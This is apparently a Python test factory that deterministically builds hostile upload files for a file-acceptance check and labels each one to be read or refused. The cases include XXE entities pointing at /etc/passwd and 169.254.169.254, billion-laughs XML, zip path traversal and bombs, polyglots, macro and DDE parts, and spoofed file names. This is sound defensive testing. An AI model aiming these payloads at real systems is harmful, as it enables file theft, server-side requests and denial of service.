"""More than 300 broken and hostile files, made from a seed; nothing binary is kept.

`hostile_files` writes each into a folder and says whether it must be read or refused. The sound
ones among the odd ones matter as much: a door that refuses everything is no door.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

from tests.factories.hostile_tables import Case, Expectation, cases
from tests.factories.upload_files import (
    HEAD,
    SHEET,
    content_types,
    document,
    jpeg,
    pdf,
    png,
    relations,
    workbook,
    worksheet,
    zipped,
)

MIB = 1024 * 1024


@dataclass(frozen=True, slots=True)
class HostileFile:
    """One file on disk, the name its sender gave it, and what must become of it."""

    name: str
    path: Path
    expectation: Expectation
    declared_name: str


def hostile_files(folder: Path) -> Iterator[HostileFile]:
    """Write every case into the folder, one after the other; the same bytes each time."""
    makers = [
        _broken,
        _flipped,
        _entities,
        _archive_names,
        _archive_lies,
        _bombs,
        _polyglots,
        _office,
        _marks,
        _wrong_extensions,
        _odd_names,
        cases,
    ]
    seen: set[str] = set()
    for maker in makers:
        for name, declared, content, expectation in maker():
            if name in seen:
                raise ValueError(name)
            seen.add(name)
            path = folder / f"{len(seen):03}"
            path.write_bytes(content)
            yield HostileFile(name, path, expectation, declared)


def _sound() -> dict[str, bytes]:
    return {
        "xlsx": zipped(workbook()),
        "docx": zipped(document()),
        "pptx": zipped(document("ppt")),
        "png": png(),
        "jpg": jpeg(),
        "pdf": pdf(),
    }


def _broken() -> Iterator[Case]:
    """Sound files, and the same cut off at many places."""
    for kind, content in _sound().items():
        yield f"sound {kind}", f"sound.{kind}", content, "read"
        for step in range(1, 17):
            cut = content[: len(content) * step // 17]
            yield f"{kind} cut at {step}/17", f"cut.{kind}", cut, "refused"
    yield "nothing at all", "empty.csv", b"", "refused"
    yield "picture that ends in its scan", "a.jpg", jpeg()[:-2], "refused"


def _flipped() -> Iterator[Case]:
    """One wrong byte in the packed content or checksum of a workbook, one in a picture."""
    chance = random.Random(2026)
    content = zipped(workbook())
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        spans = [
            range(
                start := one.header_offset + 31 + len(one.filename), start + one.compress_size - 2
            )
            for one in archive.infolist()
        ]
    for number in range(40):
        at = chance.choice(spans[number % len(spans)])
        wrong = content[:at] + bytes([content[at] ^ (1 << number % 8)]) + content[at + 1 :]
        yield f"workbook with a wrong byte, no. {number}", "wrong.xlsx", wrong, "refused"
    picture = png()
    for at in range(16, 40, 2):
        wrong = picture[:at] + bytes([picture[at] ^ 0x5A]) + picture[at + 1 :]
        yield f"picture with a wrong byte at {at}", "wrong.png", wrong, "refused"


def _entities() -> Iterator[Case]:
    """Document types in every part, in every dress."""
    laughs = "".join(f'<!ENTITY l{n} "&l{n - 1};&l{n - 1};&l{n - 1};">' for n in range(1, 30))
    attacks = {
        "plain document type": "<!DOCTYPE x>",
        "file entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        "network entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "http://169.254.169.254/">]>',
        "parameter entity": '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://x.invalid/d">%p;]>',
        "billion laughs": f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]>',
        "behind a comment": "<!-- harmless --><?and this?><!DOCTYPE x>",
    }
    for part, content in workbook().items():
        body = content.removeprefix(HEAD).decode()
        for name, attack in attacks.items():
            for encoding in ("utf-8", "utf-16"):
                made = f'<?xml version="1.0" encoding="{encoding}"?>{attack}{body}'.encode(encoding)
                case = zipped(workbook(parts={part: made}))
                yield f"{name} in {part} as {encoding}", "e.xlsx", case, "refused"


def _archive_names() -> Iterator[Case]:
    """Members whose names lead out of the folder or deceive the eye."""
    names = (
        "../evil.xml",
        "a/../../evil.xml",
        "/etc/passwd",
        "C:/evil.xml",
        "c:evil.xml",
        "..\\evil.xml",
        "a\\b.xml",
        "//server/share",
        "a//b.xml",
        "./a.xml",
        "a/./b.xml",
        "a/ ../b.xml",
        "evil\u202elmx.xml",
        "a\u200bb.xml",
        "a\x01b.xml",
        "a\nb.xml",
        "a:b.xml",
        "a|b.xml",
        "a<b>.xml",
        'a"b.xml',
        "a*b.xml",
        "a?b.xml",
        "..",
        " ",
    )
    for name in names:
        case = zipped(workbook(parts={name: b"<a/>"}))
        yield f"member named {name!r}", "names.xlsx", case, "refused"
    for name in ("x.exe", "x.zip", "a/b.ps1", "x.tar", "x.js", "xl/x.7z"):
        case = zipped(workbook(parts={name: b"anything"}))
        yield f"member named {name}", "members.xlsx", case, "refused"
    for mark in (b"PK\x03\x04", b"Rar!", b"7z\xbc\xaf", b"\x1f\x8b\x08"):
        case = zipped(workbook(parts={"xl/media/image1.png": mark + b"x" * 90}))
        yield f"archive {mark!r} inside as picture", "inside.xlsx", case, "refused"


def _archive_lies() -> Iterator[Case]:
    """Archives whose front, end and directory tell different stories."""
    good = zipped(workbook())
    end = good.rfind(b"PK\x05\x06")
    first = good.find(b"PK\x01\x02")
    changes = {
        "directory elsewhere": (end + 16, struct.pack("<L", 7)),
        "directory too long": (end + 12, struct.pack("<L", 0xFFFFFF)),
        "fewer members told": (end + 8, struct.pack("<HH", 3, 3)),
        "more members told": (end + 8, struct.pack("<HH", 30_000, 30_000)),
        "encrypted member": (first + 8, struct.pack("<H", 1)),
        "encrypted local header": (6, struct.pack("<H", 1)),
        "unknown method": (first + 10, struct.pack("<H", 99)),
        "other method in front": (8, struct.pack("<H", 0)),
        "other name in front": (30, b"[content"),
        "other size in front": (18, struct.pack("<L", 5)),
        "other checksum in front": (14, b"\x00\x00\x00\x00"),
        "larger size declared": (first + 24, struct.pack("<L", 5_000)),
        "smaller size declared": (first + 24, struct.pack("<L", 5)),
        "member starts elsewhere": (first + 42, struct.pack("<L", 9)),
        "member starts behind the end": (first + 42, struct.pack("<L", 0x7FFFFFFF)),
        "no front mark": (0, b"PK\x03\x05"),
        "no directory mark": (first, b"PK\x01\x03"),
        "no end mark": (end, b"PK\x05\x07"),
        "comment told but missing": (end + 20, struct.pack("<H", 400)),
    }
    for name, (at, value) in changes.items():
        case = good[:at] + value + good[at + len(value) :]
        yield f"archive: {name}", "lies.xlsx", case, "refused"
    yield "archive: bytes after the end", "lies.xlsx", good + b"MZ-more", "refused"
    yield "archive: bytes before the front", "lies.xlsx", b"#!/bin/sh\n" + good, "refused"
    yield "archive: markup as comment", "lies.xlsx", _commented(good, b"<html>"), "refused"
    yield "archive: an innocent comment", "comment.xlsx", _commented(good, b"made here"), "read"
    yield "archive: hidden bytes between", "gap.xlsx", _gap(good, first, end), "refused"
    yield "archive: overlapping members", "overlap.xlsx", _overlapping(good), "refused"
    for one, other in ((SHEET, SHEET), (SHEET, SHEET.upper())):
        yield f"archive: twice {one} and {other}", "twice.xlsx", _twice(one, other), "refused"


def _commented(good: bytes, comment: bytes) -> bytes:
    return good[:-2] + struct.pack("<H", len(comment)) + comment


def _gap(good: bytes, first: int, end: int) -> bytes:
    hidden = b"%" * 400
    moved = good[end : end + 16] + struct.pack("<L", first + len(hidden)) + good[end + 20 :]
    return good[:first] + hidden + good[first:end] + moved


def _overlapping(good: bytes) -> bytes:
    """The directory names the first member a second time, as another one."""
    first, end = good.find(b"PK\x01\x02"), good.rfind(b"PK\x05\x06")
    size = 46 + len("[Content_Types].xml")
    again = good[first : first + size].replace(b"[Content_Types].xml", b"[Content_Typen].xml")
    mark, *rest = struct.unpack("<4s4H2LH", good[end : end + 22])
    rest[2], rest[3], rest[4] = rest[2] + 1, rest[3] + 1, rest[4] + size
    return good[:end] + again + struct.pack("<4s4H2LH", mark, *rest)


def _twice(one: str, other: str) -> bytes:
    marker = one.replace("1", "2")
    raw = zipped(workbook(parts={marker: worksheet("")}))
    return raw.replace(marker.encode(), other.encode())


def _bombs() -> Iterator[Case]:
    """Small outside, endless inside."""
    flat = {"xl/media/a.bin": b"\x00" * (60 * MIB)}
    yield "bomb: one flat member", "flat.xlsx", zipped(workbook(parts=flat), level=1), "refused"
    spread = {f"xl/media/{n}.bin": b"\x00" * MIB for n in range(40)}
    yield "bomb: spread over members", "spread.xlsx", zipped(workbook(parts=spread)), "refused"
    nested = zipped({"0.zip": zipped({"0.bin": b"\x00" * (8 * MIB)})})
    yield "bomb: nested", "nested.xlsx", zipped(workbook(parts={"xl/a.bin": nested})), "refused"
    yield "bomb: plain zip of zips", "zips.zip", nested, "refused"
    many = {f"xl/media/{n}": b"" for n in range(3_000)}
    yield "bomb: three thousand members", "many.xlsx", zipped(workbook(parts=many)), "refused"
    row = '<row><c t="inlineStr"><is><t>' + "あ" * 200 + "</t></is></c></row>"
    big = worksheet(row * 100_001)
    yield "bomb: endless equal rows", "rows.xlsx", zipped(workbook(big), level=1), "refused"
    deep = worksheet("<a>" * 400_000)
    yield "bomb: deep elements", "deep.xlsx", zipped(workbook(deep), level=1), "refused"


def _polyglots() -> Iterator[Case]:
    """Two files in one."""
    sound, archive = _sound(), zipped({"a.txt": b"hello"})
    for kind in ("pdf", "png", "jpg"):
        content = sound[kind]
        tails = {"archive": archive, "page": b"<html><script>1</script>", "php": b"<?php 1;"}
        for name, tail in tails.items():
            yield f"{kind} with {name} behind", f"two.{kind}", content + tail, "refused"
    yield "archive with PDF before", "two.xlsx", pdf() + sound["xlsx"], "refused"
    yield "PDF named workbook with archive", "two.pdf", pdf(tail=sound["xlsx"]), "refused"
    script = b"GIF89a/*" + b"\x00" * 20 + b"*/=1;alert(1)"
    yield "GIF and script", "two.gif", script, "refused"
    yield "GIF and script as picture", "two.png", script, "refused"
    yield "PNG with script in its text", "a.png", png((b"tEXt", b"c\x00<script>1")), "refused"
    yield "JPEG with script in its remark", "a.jpg", jpeg(comment=b"<script>1</script>"), "refused"
    yield "JPEG with PDF in its remark", "b.jpg", jpeg(comment=pdf()), "refused"
    yield "PDF with page at its head", "h.pdf", pdf(b"<html><body>"), "refused"
    yield "PDF behind a text", "t.txt", "はじめに\n".encode() + pdf(), "refused"
    yield "JPEG with a second picture", "phone.jpg", jpeg(tail=jpeg()), "read"
    yield "JPEG with an honest remark", "c.jpg", jpeg(comment="工場の入口".encode()), "read"
    yield "PNG larger than memory", "l.png", png(size=(60_000, 60_000)), "refused"
    yield "JPEG larger than memory", "l.jpg", jpeg(size=(65_000, 65_000)), "refused"
    yield "PNG without extent", "n.png", png(size=(0, 5)), "refused"


def _office() -> Iterator[Case]:
    """Macros, remote templates, data links, embedded things."""
    macro_types = content_types("xl/workbook.xml", "spreadsheetml.sheet").replace(
        b"sheet.main", b"sheet.macroEnabled.main"
    )
    link = relations(("attachedTemplate", "http://x.invalid/t.dotm")).replace(
        b"/></", b' TargetMode="External"/></'
    )
    bad: dict[str, dict[str, bytes]] = {
        "macro project": workbook(parts={"xl/vbaProject.bin": b"\xd0\xcf"}),
        "macro project elsewhere": workbook(parts={"xl/other/VBAPROJECT.BIN": b"\xd0\xcf"}),
        "macro sheet": workbook(parts={"xl/macrosheets/sheet1.xml": worksheet("")}),
        "macro type": workbook(parts={"[Content_Types].xml": macro_types}),
        "data link to a program": workbook(
            parts={"xl/externalLinks/externalLink1.xml": b'<x><ddeLink ddeService="cmd"/></x>'}
        ),
        "entities in a drawing": workbook(parts={"xl/drawings/v.vml": b"<!ENTITY a 'b'><xml>"}),
        "no content types": {SHEET: worksheet("")},
        "no relations": {k: v for k, v in workbook().items() if k != "_rels/.rels"},
        "two main parts": workbook(
            parts={
                "[Content_Types].xml": content_types("x", "spreadsheetml.sheet")
                + content_types("y", "wordprocessingml.document")
            }
        ),
        "zip embedded as workbook": workbook(
            parts={"xl/embeddings/Book1.xlsx": zipped({"a.txt": b"a"})}
        ),
        "macros embedded": workbook(
            parts={"xl/embeddings/B.xlsx": zipped(workbook(parts={"xl/vbaProject.bin": b"x"}))}
        ),
    }
    for name, parts in bad.items():
        yield f"office: {name}", "office.xlsx", zipped(parts), "refused"
    remote = document(parts={"word/_rels/settings.xml.rels": link})
    yield "office: remote template", "remote.docx", zipped(remote), "refused"
    chart = document("ppt", parts={"ppt/embeddings/Sheet1.xlsx": zipped(workbook())})
    yield "office: table behind a chart", "chart.pptx", zipped(chart), "read"


def _marks() -> Iterator[Case]:
    """Sorts of files that are recognised and never let in."""
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
    kinds = {
        "xls": ole + "Workbook".encode("utf-16-le"),
        "doc": ole + "WordDocument".encode("utf-16-le"),
        "locked xlsx": ole + "EncryptedPackage".encode("utf-16-le"),
        "gif": b"GIF89a" + b"\x00" * 30,
        "exe": b"MZ\x90\x00" + b"\x00" * 60,
        "elf": b"\x7fELF" + b"\x00" * 60,
        "rar": b"Rar!\x1a\x07\x00",
        "7z": b"7z\xbc\xaf\x27\x1c",
        "gz": b"\x1f\x8b\x08\x00" + b"\x00" * 9,
        "rtf": b"{\\rtf1 hello}",
        "tif": b"II*\x00\x08",
        "bmp": b"BM\x36\x00\x00\x00\x00\x00",
        "webp": b"RIFF\x00\x00\x00\x00WEBP",
        "empty zip": b"PK\x05\x06" + b"\x00" * 18,
        "mp4": b"\x00\x00\x00\x18ftypmp42",
    }
    for kind, content in kinds.items():
        for extension in sorted({"xlsx", "csv", kind.split()[-1]}):
            yield f"{kind} as {extension}", f"mark.{extension}", content, "refused"


def _wrong_extensions() -> Iterator[Case]:
    """Sound content under a name that says something else."""
    for kind, content in _sound().items():
        for extension in ("xlsx", "docx", "pdf", "png", "txt", "csv", "exe", "html", "zip", "svg"):
            if extension != kind:
                name = f"report.{extension}"
                yield f"{kind} named {extension}", name, content, "refused"
    yield "workbook without extension", "report", zipped(workbook()), "refused"
    yield "workbook with two extensions", "report.xlsx.exe", zipped(workbook()), "refused"
    yield "plain archive", "a.zip", zipped({"a.txt": b"hello"}), "refused"


def _odd_names() -> Iterator[Case]:
    """Names that must be cleaned, on a sound file."""
    names = (
        "../../etc/passwd.pdf",
        "C:\\Users\\x\\y.pdf",
        "a\x00b.pdf",
        "a\r\nb.pdf",
        "rcs\u202efdp.pdf",
        "\u2066x\u2069.pdf",
        "con.pdf",
        "NUL.pdf",
        "com1.pdf",
        "lpt9.x.pdf",
        "x" * 5_000 + ".pdf",
        "長" * 400 + ".pdf",
        ".pdf",
        "...pdf",
        "a .pdf",
        "\ud800.pdf",
        "\ufeffa.pdf",
        "a/b/c.pdf",
        "e\u0301.pdf",
        '<b>"x"|y?.pdf',
        "  x.pdf  ",
        "x.pdf.",
        "a\u200b.pdf",
        "-rf.pdf",
        "~.pdf",
    )
    for number, name in enumerate(names):
        yield f"odd name no. {number}", name, pdf(), "read"
